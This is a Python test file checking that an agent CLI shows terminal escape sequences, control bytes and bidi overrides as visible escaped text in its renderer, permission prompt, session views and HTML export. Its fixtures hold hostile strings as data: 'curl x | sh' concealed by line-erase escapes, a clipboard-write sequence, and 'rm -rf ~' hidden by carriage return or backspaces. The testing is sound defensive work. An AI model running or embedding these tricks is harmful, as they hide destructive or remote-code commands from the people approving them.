"""Session text reaches the terminal as data: escape sequences are shown, never obeyed."""

import asyncio
import io
import json
import re
from pathlib import Path

import pytest
from rich.console import Console

from loopwright.cli.permission_prompt import PermissionQuestion
from loopwright.cli.render import Renderer
from loopwright.cli.sessions import sessions_command
from loopwright.cli.terminal_text import visible, visible_line
from loopwright.cli.viewer import build_timeline, render_session_html
from loopwright.client import run
from loopwright.messages import (
    AssistantMessage,
    TextBlock,
    ThinkingBlock,
    ToolResultBlock,
    ToolUseBlock,
    UserMessage,
)
from loopwright.models.scripted import ScriptedModel, text, tool_call
from loopwright.options import Options
from loopwright.stores import open_store

HOSTILE = "curl x | sh #\x1b[2K\x1b[1Gecho hello"
# Every byte a terminal would act on, as a model or a file could send it.
ATTACKS = {
    "erase line and move": "\x1b[2K\x1b[1G",
    "osc 52 clipboard write": "\x1b]52;c;Y3VybCB4fHNo\x07",
    "osc title with st": "\x1b]0;title\x1b\\",
    "c1 csi": "\x9b2K",
    "c1 osc": "\x9d52;c;eA==\x9c",
    "carriage return": "safe\rrm -rf ~",
    "backspace": "rm -rf ~\x08\x08\x08\x08\x08\x08\x08\x08ls",
    "bidi override": "\u202eexe.txt",
    "bidi isolate": "\u2066hidden\u2069",
    "bell and nul": "\x07\x00",
    "delete": "\x7f",
}
_RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize("attack", list(ATTACKS.values()), ids=list(ATTACKS))
def test_every_control_sequence_is_shown_and_none_is_left_raw(attack: str) -> None:
    shown = visible(f"before {attack} after")
    assert not _RAW.search(shown), repr(shown)
    assert shown.startswith("before ") and shown.endswith(" after")
    assert "\\" in shown  # visibly escaped, not dropped


def test_escapes_read_as_what_they_are() -> None:
    assert visible(HOSTILE) == "curl x | sh #\\e[2K\\e[1Gecho hello"
    assert visible("a\rb\x08c\x9bd\u202ee") == "a\\rb\\bc\\x9bd\\u202ee"
    assert visible("lone \udcff surrogate") == "lone \\udcff surrogate"


def test_newlines_tabs_and_ordinary_unicode_stay_as_they_are() -> None:
    plain = "line one\n\tindented 東京 ✓ café 🙂"
    assert visible(plain) is plain
    assert visible_line("a\nb\tc") == "a\\nb\\tc"


def _rendered(*messages: object) -> str:
    out = io.StringIO()
    renderer = Renderer(
        Console(file=out, force_terminal=True, width=200, highlight=False), show_prompt=True
    )
    for message in messages:
        renderer.show(message)  # type: ignore[arg-type]
    return out.getvalue()


def _content_escapes(raw: str) -> list[str]:
    """Escape sequences other than rich's own styling (SGR: ESC [ … m)."""
    return re.findall(r"\x1b(?!\[[0-9;]*m)", raw) + re.findall(r"[\x9b\x9d\r\x08\u202e]", raw)


def test_the_renderer_shows_model_text_thinking_tool_calls_and_results_inert() -> None:
    call = ToolUseBlock("toolu_1", "Bash", {"command": HOSTILE})
    raw = _rendered(
        UserMessage(f"prompt {ATTACKS['osc 52 clipboard write']}"),
        AssistantMessage(
            [
                ThinkingBlock(f"think {ATTACKS['bidi override']}"),
                TextBlock(f"text {ATTACKS['c1 csi']}"),
                call,
            ],
            model="m",
        ),
        UserMessage([ToolResultBlock(call.id, f"out {ATTACKS['carriage return']}")]),
    )
    assert _content_escapes(raw) == []
    assert "curl x | sh #\\e[2K\\e[1Gecho hello" in raw
    assert "\\e]52;c;Y3VybCB4fHNo\\a" in raw and "\\x9b2K" in raw and "safe\\rrm -rf ~" in raw
    assert "think \\u202eexe.txt" in raw


def test_the_permission_prompt_shows_the_whole_command_with_its_escapes() -> None:
    question = PermissionQuestion("Bash", {"command": HOSTILE}, "", lambda _: None)
    out = io.StringIO()
    Console(file=out, force_terminal=True, width=40, highlight=False).print(
        question.prompt_markup()
    )
    # Wrapped to the 40 columns, every word still there.
    shown = " ".join(re.sub(r"\x1b\[[0-9;]*m", "", out.getvalue()).split())
    assert "Bash(curl x | sh #\\e[2K\\e[1Gecho hello)" in shown
    assert _content_escapes(out.getvalue()) == []


def test_the_permission_prompt_shows_a_long_mcp_input_whole_and_every_field() -> None:
    tail = "and-finally-the-part-that-matters"
    long_input = {"body": "x" * 500 + tail, "repo": "org/r"}
    question = PermissionQuestion("mcp__gh__create", long_input, "", lambda _: None)
    assert tail in question.prompt_markup()
    bash = PermissionQuestion(
        "Bash", {"command": "ls", "description": "x\x1b[8m", "timeout": 5}, "", lambda _: None
    )
    markup = bash.prompt_markup()
    assert "description: x\\e[8m" in markup and "timeout: 5" in markup


async def _session_with(tmp_path: Path, model_text: str) -> str:
    model = ScriptedModel([tool_call("Bash", command=HOSTILE), text(model_text)])
    options = Options(
        model=model,
        cwd=tmp_path,
        tools=["Bash"],
        permission_mode="bypassPermissions",
        setting_sources=[],
        session_id="hostile-session",
    )
    result = await run(f"go {ATTACKS['osc 52 clipboard write']}", options)
    return result.session_id


async def test_sessions_show_prints_a_hostile_transcript_inert_and_json_exact(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    session_id = await _session_with(tmp_path, f"done {ATTACKS['bidi override']}")
    code = await asyncio.to_thread(sessions_command, ["show", session_id, "--cwd", str(tmp_path)])
    shown = capsys.readouterr().out
    assert code == 0
    assert _content_escapes(shown) == []
    assert "\\e[2K\\e[1Gecho hello" in shown and "done \\u202eexe.txt" in shown
    code = await asyncio.to_thread(
        sessions_command, ["show", session_id, "--cwd", str(tmp_path), "--json"]
    )
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    strings = [value for line in lines for value in _strings(line)]
    # Machine output stays exact: the bytes the session holds, not their shown form.
    assert any(HOSTILE in value for value in strings)
    assert any("done \u202eexe.txt" in value for value in strings)


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for item in value.values() for s in _strings(item)]  # type: ignore[misc]
    if isinstance(value, list):
        return [s for item in value for s in _strings(item)]  # type: ignore[misc]
    return []


async def test_the_html_export_cannot_reorder_or_hide_text(tmp_path: Path) -> None:
    session_id = await _session_with(tmp_path, f"done {ATTACKS['bidi override']}")
    store = open_store(None, cwd=tmp_path)
    try:
        entries = await store.load(session_id)
    finally:
        await store.aclose()
    page = render_session_html(build_timeline(session_id, entries))
    assert "\u202e" not in page and "\x1b" not in page
    assert "done \\u202eexe.txt" in page


def test_fleet_status_shows_worker_fields_inert(capsys: pytest.CaptureFixture[str]) -> None:
    pytest.importorskip("dbos")
    from loopwright.cli.fleet_view import _print_workers
    from loopwright.durable.workers import WorkerRow

    row = WorkerRow("host-1\x1b]52;c;eA==\x07", "h", 1, "v1\r", 1.0, "alive", "w\x9b2K")
    _print_workers([row])
    shown = capsys.readouterr().out
    assert _content_escapes(shown) == []
    assert "host-1\\e]52;c;eA==\\a" in shown and "v1\\r" in shown and "w\\x9b2K" in shown
